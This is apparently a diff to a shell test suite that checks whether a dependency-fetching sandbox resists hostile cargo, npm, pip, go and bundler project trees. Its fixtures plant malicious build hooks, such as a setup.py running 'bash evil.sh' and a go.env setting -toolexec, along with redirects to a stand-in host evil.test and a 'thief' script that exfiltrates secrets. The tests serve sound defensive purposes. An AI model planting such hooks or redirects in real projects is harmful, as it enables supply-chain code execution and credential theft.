@@ -69,7 +69,7 @@ tries() {
 resisted() {
 	local log=$work/state/$1/latest/run.jsonl
 	! grep -e "$private" -e "$secret" "$log" "$work/state/$1/latest/artifacts/deps/stolen" || return 1
-	! jq -r '.host // empty' "$work/httpd.log" | grep -v '^files\.test' || return 1
+	! jq -r '.fields[] | select(.[0] == "Host") | .[1]' "$work/httpd.log" | grep -v '^files\.test' || return 1
 	! jq -r 'select(.type == "egress" and .verdict == "allowed") | .host' "$log" | grep -vx files.test
 }
 
@@ -83,8 +83,10 @@ has_run() {
 	grep -q 'the thief was here' "$work/state/$1/latest/artifacts/deps/stolen"
 }
 
-is_clean() {
-	[ -e "$work/state/$1/latest/artifacts/deps" ] && [ ! -e "$work/state/$1/latest/artifacts/deps/stolen" ]
+# has_not_run NAME: none has. The thief would have asked for this address, which the log has, however the run ended.
+has_not_run() {
+	! jq -r 'select(.type == "egress") | .host' "$work/state/$1/latest/run.jsonl" | grep -x 10.0.2.2 &&
+		[ ! -e "$work/state/$1/latest/artifacts/deps/stolen" ]
 }
 
 # cargo runs build.rustc of the tree's configuration, and follows its registries.
@@ -102,7 +104,7 @@ path = "evil"' >rust-toolchain.toml
 	} >evil.sh
 	chmod +x evil.sh
 	: >src/main.rs
-	tries hostile_cargo rust cargo_fetch && resisted hostile_cargo && is_clean hostile_cargo
+	tries hostile_cargo rust cargo_fetch && resisted hostile_cargo && has_not_run hostile_cargo
 }
 
 # npm follows .npmrc, runs scripts of the tree, and goes where the lock file says.
@@ -116,7 +118,7 @@ hostile_npm() {
 	echo '{"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "x", "version": "1.0.0",
 		"dependencies": {"a": "1.0.0"}}, "node_modules/a": {"version": "1.0.0", "resolved": "http://evil.test/a.tgz"}}}' \
 		>package-lock.json
-	tries hostile_npm node npm_fetch && resisted hostile_npm && blocked hostile_npm
+	tries hostile_npm node npm_fetch && resisted hostile_npm && blocked hostile_npm && has_not_run hostile_npm
 }
 
 # pip follows the indexes and places that a requirements file names, and builds what has no wheel.
@@ -127,7 +129,7 @@ hostile_pip() {
 		'a==1.0' >requirements.txt
 	printf '%s\n' 'import os' 'os.system("bash evil.sh")' >setup.py
 	thief >evil.sh
-	tries hostile_pip python pip_download && resisted hostile_pip && blocked hostile_pip
+	tries hostile_pip python pip_download && resisted hostile_pip && blocked hostile_pip && has_not_run hostile_pip
 }
 
 # go asks the servers that modules are named after, where it may.
@@ -137,7 +139,7 @@ hostile_go() {
 	printf '%s\n' 'module x' 'go 1.19' 'require evil.test/a v1.0.0' >go.mod
 	printf '%s\n' 'GOPROXY=http://evil.test,direct' 'GOPRIVATE=evil.test' 'GOFLAGS=-toolexec=./evil.sh' >go.env
 	thief >evil.sh
-	tries hostile_go go go_mod_download && resisted hostile_go
+	tries hostile_go go go_mod_download && resisted hostile_go && has_not_run hostile_go
 }
 
 # maven has plugins, extensions and repositories of the project, and options in files.
@@ -167,5 +169,5 @@ hostile_bundler() {
 		thief
 		echo EVIL
 	} >Gemfile
-	tries hostile_bundler ruby bundle_fetch && resisted hostile_bundler && has_run hostile_bundler && blocked hostile_bundler
+	tries hostile_bundler ruby bundle_fetch && resisted hostile_bundler && has_run hostile_bundler && ! has_not_run hostile_bundler && blocked hostile_bundler
 }
